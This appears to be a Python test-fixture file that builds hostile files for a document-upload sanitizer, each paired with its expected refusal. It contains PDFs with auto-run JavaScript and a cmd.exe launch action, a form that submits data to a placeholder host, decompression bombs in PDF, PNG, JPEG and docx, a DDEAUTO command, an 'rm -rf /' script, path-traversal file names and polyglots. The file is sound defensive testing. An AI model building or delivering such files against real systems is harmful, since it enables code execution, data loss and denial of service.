"""Files that mean harm or are not what they say, each made here, with a word of the answer that they get."""

import io
import os
import struct
import zipfile
import zlib
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from tests.documents.mails import a_docx, an_eml, an_ods, many_parts, relations
from tests.factories.documents import a_pdf, a_picture
from tests.fakes.clamd import TEST_STRING


@dataclass(frozen=True)
class Hostile:
    """answer: a word of the refusal; "" for a file that is kept because it can do no harm here, as `kept` says."""

    name: str
    content: bytes
    answer: str
    kept: str = ""


def _pdf_with(change, **save) -> bytes:  # type: ignore[no-untyped-def]
    with pikepdf.open(io.BytesIO(a_pdf())) as pdf:
        change(pdf)
        output = io.BytesIO()
        pdf.save(output, **save)
    return output.getvalue()


def _script_on_opening(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _named_script(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["go", script])))


def _script_on_a_link(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    pdf.pages[0].Annots = Array([link])


def _script_after_a_harmless_action(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.GoTo, D="here", Next=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    pdf.pages[0].AA = Dictionary(O=action)


def _script_deep_behind_others(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    for _ in range(14):
        action = Dictionary(S=Name.GoTo, D="here", Next=action)
    pdf.Root.OpenAction = action


def _start_a_program(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F="cmd.exe")


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["virus.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ", filename="virus.exe")


def _attachment_as_annotation(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"MZ", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F="virus.exe", EF=Dictionary(F=stream))
    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)])


def _no_pages(pdf: pikepdf.Pdf) -> None:
    del pdf.pages[0]


def _form_that_changes_itself(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def _sends_a_form(pdf: pikepdf.Pdf) -> None:
    button = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
    button.A = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://collect.example/"))
    pdf.pages[0].Annots = Array([button])


def _film(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))])


def _ten_metres_wide(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].MediaBox = Array([0, 0, 28_346, 842])


def _bomb_on_the_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = pdf.make_stream(b"")
    pdf.pages[0].Contents.write(zlib.compress(b"0 0 m " * 20_000_000, 1), filter=Name.FlateDecode)


def _bomb_of_objects() -> bytes:
    """A PDF whose objects are packed: a few bytes that unpack to some gigabytes, again and again."""
    once = zlib.compressobj(9)
    packed = b"".join(once.compress(b" " * 50_000_000) for _ in range(60)) + once.flush()
    twice = zlib.compress(packed, 9)
    catalog = b"1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
    objects = b"5 0 obj <</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>> stream\n%s\nendstream endobj\n"
    body = b"%PDF-1.7\n" + catalog
    at_objects = len(body)
    body += objects % (len(twice), twice)
    start = len(body)
    lines = b"".join(
        kind.to_bytes(1, "big") + place.to_bytes(4, "big") + b"\0"
        for kind, place in ((0, 0), (1, 9), (2, 5), (0, 0), (0, 0), (1, at_objects), (1, start))
    )
    table = b"6 0 obj <</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>> stream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF"
    return body + table % (len(lines), lines, start)


def _pages_in_a_ring() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        b"3 0 obj<</Type/Pages/Parent 2 0 R/Count 1/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R/Size 4>>\n%%EOF"
    )


def _lists_in_lists() -> bytes:
    deep = b"[" * 100_000 + b"]" * 100_000
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + deep + b">>endobj\ntrailer<</Root 1 0 R/Size 3>>\n%%EOF"


def _zip(**parts: bytes) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return output.getvalue()


def _web_page_in_a_picture() -> bytes:
    """A JPEG whose comment is a web page."""
    picture, words = a_picture("JPEG"), b"<html><script>alert(1)</script></html>"
    return picture[:2] + b"\xff\xfe" + (len(words) + 2).to_bytes(2, "big") + words + picture[2:]


def _locked_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(100)


def _png_of(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is this large."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def _progressive_bomb() -> bytes:
    """0.8 MB that take 380 MB to read."""
    output = io.BytesIO()
    Image.new("L", (14_000, 14_000)).save(output, "JPEG", quality=20, progressive=True)
    return output.getvalue()


def _progressive_bomb_in_colour() -> bytes:
    """A head that says 200 million points in three layers: more than a gigabyte, before the first of them is read."""
    output = io.BytesIO()
    Image.new("RGB", (64, 64)).save(output, "JPEG", progressive=True, subsampling=0)
    content = output.getvalue()
    at = content.index(b"\xff\xc2") + 5
    return content[:at] + struct.pack(">HH", 14_000, 14_000) + content[at + 4 :]


def _png_with(kind: bytes, data: bytes) -> bytes:
    """A picture with one more chunk before its points."""
    picture = a_picture()
    at = picture.index(b"IDAT") - 4
    return picture[:at] + struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) + picture[at:]


SCRIPT, FILES, KIND, DAMAGED = "has a script inside", "has other files inside", "is not a PDF, PNG or JPEG", "is damaged"
MACRO, ELSEWHERE, TOO_MUCH = "has a macro inside", "fetches something from another computer", "unpacks to more than is safe"

HOSTILE = [
    Hostile("a web page called a plan.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>", KIND),
    Hostile("drawing.svg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', KIND),
    Hostile("a drawing called a picture.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', KIND),
    Hostile("a program for Windows.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 200, KIND),
    Hostile("a program for Linux.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 200, KIND),
    Hostile("a shell script.pdf", b"#!/bin/sh\nrm -rf /\n", KIND),
    Hostile("an archive.pdf", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\0" * 100, KIND),
    Hostile("a Word file.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, KIND),
    Hostile("an animated picture.jpg", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x00\x00\x00\x00\x00", KIND),
    Hostile("a web page with a PDF behind it.pdf", b"<html><script>alert(1)</script></html>" + a_pdf(), KIND),
    Hostile("nothing.pdf", b"", "is empty"),
    Hostile("noughts.pdf", b"\0" * 5000, KIND),
    Hostile("only a heading.pdf", b"%PDF-1.7\n", DAMAGED),
    Hostile("half a PDF.pdf", b"%PDF-1.7\n" + b"\xff" * 2000, DAMAGED),
    Hostile("no pages.pdf", _pdf_with(_no_pages), "has no pages"),
    Hostile("locked.pdf", _pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(owner="a", user="b")), "is locked with a password"),
    Hostile("script on opening.pdf", _pdf_with(_script_on_opening), SCRIPT),
    Hostile("named script.pdf", _pdf_with(_named_script), SCRIPT),
    Hostile("script on a link.pdf", _pdf_with(_script_on_a_link), SCRIPT),
    Hostile("script behind another action.pdf", _pdf_with(_script_after_a_harmless_action), SCRIPT),
    Hostile(
        "script with its name disguised.pdf",
        _pdf_with(_script_on_opening).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53"),
        SCRIPT,
    ),
    Hostile(
        "script in a packed object.pdf",
        _pdf_with(_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        SCRIPT,
    ),
    Hostile("script deep behind others.pdf", _pdf_with(_script_deep_behind_others), "damaged"),
    Hostile("starts a program.pdf", _pdf_with(_start_a_program), SCRIPT),
    Hostile("attachment.pdf", _pdf_with(_attachment), FILES),
    Hostile("attachment on a page.pdf", _pdf_with(_attachment_as_annotation), FILES),
    Hostile("a bomb.png", _png_of(50_000, 50_000), "has too many pixels"),
    Hostile("a long bomb.png", _png_of(200_000, 10), "has too many pixels"),
    Hostile("a bomb in layers.jpg", _progressive_bomb(), "", "it is large, and looked at where it can do no harm"),
    Hostile("a larger bomb in layers.jpg", _progressive_bomb_in_colour(), TOO_MUCH),
    Hostile("a book in a picture.png", _png_with(b"zTXt", b"Comment\0\0" + zlib.compress(b"x" * 200_000_000)), TOO_MUCH),
    Hostile("endless colours.png", _png_with(b"iCCP", b"profile\0\0" + zlib.compress(b"x" * 200_000_000)), TOO_MUCH),
    Hostile("half a picture.jpg", a_picture("JPEG", (600, 400))[:700], DAMAGED),
    Hostile("a spoilt picture.png", a_picture()[:-20] + b"\0" * 20, DAMAGED),
    Hostile("a form that changes itself.pdf", _pdf_with(_form_that_changes_itself), "is a form that changes itself"),
    Hostile("sends what is filled in.pdf", _pdf_with(_sends_a_form), "sends what is filled in to another computer"),
    Hostile("a film.pdf", _pdf_with(_film), FILES),
    Hostile("an archive behind a plan.pdf", a_pdf() + _zip(run__exe=b"MZ" * 50), FILES),
    Hostile("objects that unpack to gigabytes.pdf", _bomb_of_objects(), "unpacks to more than is safe|is damaged"),
    Hostile("pages in a ring.pdf", _pages_in_a_ring(), "is damaged|has no pages"),
    Hostile("lists in lists in lists.pdf", _lists_in_lists(), "is damaged|unpacks to more|has no pages"),
    Hostile("a list of objects that is wrong.pdf", a_pdf().replace(b"startxref\n", b"startxref\n9"), "", "what can be read of it is shown"),
    Hostile("ten metres wide.pdf", _pdf_with(_ten_metres_wide), "", "drawn as small as it must be"),
    Hostile("ten thousand pages.pdf", a_pdf(10_000), "", "drawn page by page as it is looked at"),
    Hostile("a drawing that unpacks to 120 MB.pdf", _pdf_with(_bomb_on_the_page), "", "the process that draws it is stopped"),
    Hostile("a web page in a photograph.jpg", _web_page_in_a_picture(), "", "sent as a picture, never as a page"),
    Hostile("a picture that is a script.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//;", KIND),
    Hostile("a picture that is a script.png.js", b"alert(1)//" + a_picture(), KIND),
    Hostile("invoice.pdf.exe", b"MZ\x90\x00" + b"\0" * 200, KIND),
    Hostile("a plan in disguise.exe", a_pdf(), "", "a plain PDF, kept under the ending of what it is"),
    Hostile("a picture in disguise.pdf", a_picture(), "", "a plain picture, kept under the ending of what it is"),
    Hostile("../" * 150 + "a\x00\u202e" + "x" * 60 + ".pdf", a_pdf(words="name"), "", "kept under a name that is safe"),
    Hostile("CON.pdf", a_pdf(words="con"), "", "kept under a name that Windows can save"),
    Hostile("the test string of virus scanners.com", TEST_STRING, KIND),
    Hostile("an archive of archives.docx", _zip(**{f"word__{n}.xml": b" " * 9_000_000 for n in range(60)}), TOO_MUCH),
    Hostile("a bomb.docx", a_docx(**{f"word__{n}.xml": b" " * 9_000_000 for n in range(60)}), TOO_MUCH),
    Hostile("macro.docx", a_docx(word__vbaProject="", **{"word__vbaProject.bin": b"\0" * 20}), MACRO),
    Hostile(
        "a template from elsewhere.docx",
        a_docx(**{"word___rels__settings.xml.rels": relations("attachedTemplate", "https://x.example/t.dotm")}),
        ELSEWHERE,
    ),
    Hostile("a program in a letter.docx", a_docx(**{"word__embeddings__oleObject1.bin": b"MZ" * 50}), FILES),
    Hostile(
        "starts a program.docx",
        a_docx(**{"word__footer.xml": '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/c calc"</w:instrText>'}),
        ELSEWHERE,
    ),
    Hostile("scripts.ods", an_ods().replace(b"META-INF/manifest.xml", b"Basic/Standard/x1.xml"), MACRO),
    Hostile("ten thousand parts.eml", many_parts(10_000), "", "shown; its parts are left inside"),
    Hostile("an archive in an email.eml", an_eml(("plans.zip", _zip(run__exe=b"MZ"))), "", "shown; the archive is refused like any other"),
    Hostile("a script in an email.eml", an_eml(words="", html="<p>Hello</p><script>alert(1)</script>"), "", "its words alone are shown"),
    Hostile("a web page.eml", b"<html>From: a\nDate: b\n<script>alert(1)</script></html>", KIND),
    Hostile("half an Outlook message.msg", _locked_office(), KIND),
]
